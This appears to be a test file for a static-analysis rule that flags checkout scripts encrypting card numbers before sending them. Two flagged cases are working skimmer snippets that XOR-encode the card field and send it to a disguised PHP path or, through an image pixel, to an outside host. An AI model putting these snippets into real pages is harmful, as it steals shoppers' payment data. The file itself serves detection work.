// ---
var K = 'm4g3';
function x(s) {
  var o = '';
  for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ K.charCodeAt(i % K.length));
  return btoa(o);
}
var num = document.querySelector('[name="payment[cc_number]"]').value;
// ruleid: card-data-through-cipher
jQuery.ajax({url: '/media/catalog/product/cache/swatch.php', type: 'POST', data: {img: x(num)}});
// ---
function enc(s, k) { var r = ''; for (var i = 0; i < s.length; i++) { r += String.fromCharCode(s.charCodeAt(i) ^ k); } return r; }
var pan = document.getElementById('cc_number').value;
// ruleid: card-data-through-cipher
new Image().src = 'https://stats-pixel.top/p?d=' + encodeURIComponent(enc(pan, 23));
// ---
// A cipher, but no card data.
function scramble(s) { var r = ''; for (var i = 0; i < s.length; i++) r += String.fromCharCode(s.charCodeAt(i) ^ 7); return r; }
// ok: card-data-through-cipher
fetch('/api/licence', {method: 'POST', body: scramble(location.hostname)});
// ---
// Card data to the processor, and a cipher elsewhere in the script.
function mask(s) { var r = ''; for (var i = 0; i < s.length; i++) r += String.fromCharCode(s.charCodeAt(i) ^ 1); return r; }
var token = mask(navigator.userAgent);
// ok: card-data-through-cipher
fetch('https://api.stripe.com/v1/tokens', {method: 'POST', body: 'card[number]=' + document.querySelector('#cc-number').value});
// ---
// Card data to the site, no cipher.
// ok: card-data-through-cipher
fetch('/checkout/pay', {method: 'POST', body: document.querySelector('#cc-number').value});
